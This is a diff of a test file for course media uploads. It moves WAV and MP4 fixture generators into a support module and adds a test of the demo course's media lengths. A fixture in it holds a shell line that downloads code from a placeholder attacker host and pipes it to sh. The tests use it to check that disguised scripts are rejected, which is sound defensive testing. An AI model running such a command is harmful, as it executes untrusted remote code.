@@ -3,55 +3,17 @@ import http from 'node:http';
 import path from 'node:path';
 import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createDemoCourse } from '../../src/server/seed/courses';
 import { mediaValues } from '../../src/server/seed/factories';
 import { createSite } from '../factories';
 import { as, createPerson, type Person } from '../factories/coaching';
 import { createCourse } from '../factories/courses';
 import { testDialects } from '../support/databases';
+import { mp4, wav } from '../support/media';
 import { startS3, type TestS3 } from '../support/s3';
 import { startTestServer, type TestServer } from '../support/server';
 
 const dialects = await testDialects();
-
-/** A WAV of `seconds` of silence: 8 kHz, 8 bits, mono, its header written by hand. */
-function wav(seconds: number, rate = 8000): Buffer {
-  const data = Buffer.alloc(seconds * rate, 128);
-  const header = Buffer.alloc(44);
-  header.write('RIFF', 0, 'latin1');
-  header.writeUInt32LE(36 + data.length, 4);
-  header.write('WAVEfmt ', 8, 'latin1');
-  header.writeUInt32LE(16, 16);
-  header.writeUInt16LE(1, 20); // PCM
-  header.writeUInt16LE(1, 22); // mono
-  header.writeUInt32LE(rate, 24);
-  header.writeUInt32LE(rate, 28); // bytes a second
-  header.writeUInt16LE(1, 32);
-  header.writeUInt16LE(8, 34);
-  header.write('data', 36, 'latin1');
-  header.writeUInt32LE(data.length, 40);
-  return Buffer.concat([header, data]);
-}
-
-const box = (type: string, ...parts: Buffer[]) => {
-  const body = Buffer.concat(parts);
-  const header = Buffer.alloc(8);
-  header.writeUInt32BE(8 + body.length);
-  header.write(type, 4, 'latin1');
-  return Buffer.concat([header, body]);
-};
-
-/** An MP4 video of `seconds` by its movie header (a silent video: no audio track), with `padding` bytes of data. */
-function mp4(seconds: number, padding = 20_000): Buffer {
-  const ftyp = box('ftyp', Buffer.from('isom', 'latin1'), Buffer.from([0, 0, 2, 0]), Buffer.from('isomiso2mp41'));
-  const mvhd = Buffer.alloc(100);
-  mvhd.writeUInt32BE(1000, 12); // time scale
-  mvhd.writeUInt32BE(seconds * 1000, 16); // duration
-  mvhd.writeUInt32BE(0x00010000, 20);
-  mvhd.writeUInt16BE(0x0100, 24);
-  mvhd.writeUInt32BE(2, 96);
-  const data = Buffer.from(Array.from({ length: padding }, (_, i) => (i * 31) % 256));
-  return Buffer.concat([ftyp, box('moov', box('mvhd', mvhd)), box('mdat', data)]);
-}
 
 const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
 const script = Buffer.from('#!/bin/sh\ncurl -s http://evil.example/x | sh\n');
@@ -81,6 +43,16 @@ describe.each(dialects)('course media uploads on %s', (dialect) => {
   const storedFiles = (siteId: number) => {
     const dir = path.join(server.config.dataDir, 'uploads', String(siteId));
     return fs.existsSync(dir) ? fs.readdirSync(dir) : [];
+  };
+  /** The name and length of each medium of a part, as its editor gets them. */
+  const lengths = async (who: Person, courseId: number, coursePartId: number) => {
+    const { data } = await server.ok(
+      'course_admin.php',
+      'get_course_part_content',
+      { CourseId: courseId, CoursePartId: coursePartId },
+      as(who),
+    );
+    return Object.values(data.Media).map((medium) => [medium.Name, medium.DurationSeconds]);
   };
   const temporaryFiles = () => {
     const dir = path.join(server.config.dataDir, 'tmp');
@@ -136,6 +108,21 @@ describe.each(dialects)('course media uploads on %s', (dialect) => {
     expect(refused.httpStatus).toBe(415);
     expect(refused.body).toMatchObject({ error_code: 'UNSUPPORTED_FILE', message: expect.stringContaining('length') });
     expect(await mediaOf(site.id)).toHaveLength(4);
+  });
+
+  it('the demo course’s videos and audio come with their lengths', async () => {
+    const site = await createSite(server.db);
+    const admin = await createPerson(server, site, 'admin');
+    const { course } = await createDemoCourse(server.db, { config: server.config, site });
+    const found = new Map<unknown, unknown>();
+    for (const partId of course.partIds) {
+      for (const [name, seconds] of await lengths(admin, course.id, partId)) found.set(name, seconds);
+    }
+    expect(found.get('chord.ogg')).toBe(4);
+    for (const name of ['episode-sound.webm', 'episode-waves.webm']) {
+      expect(found.get(name), name).toBeGreaterThan(5);
+      expect(found.get(name), name).toBeLessThan(7);
+    }
   });
 
   it('the type is read from the content: a script named .png is refused with a clear error, nothing stored', async () => {
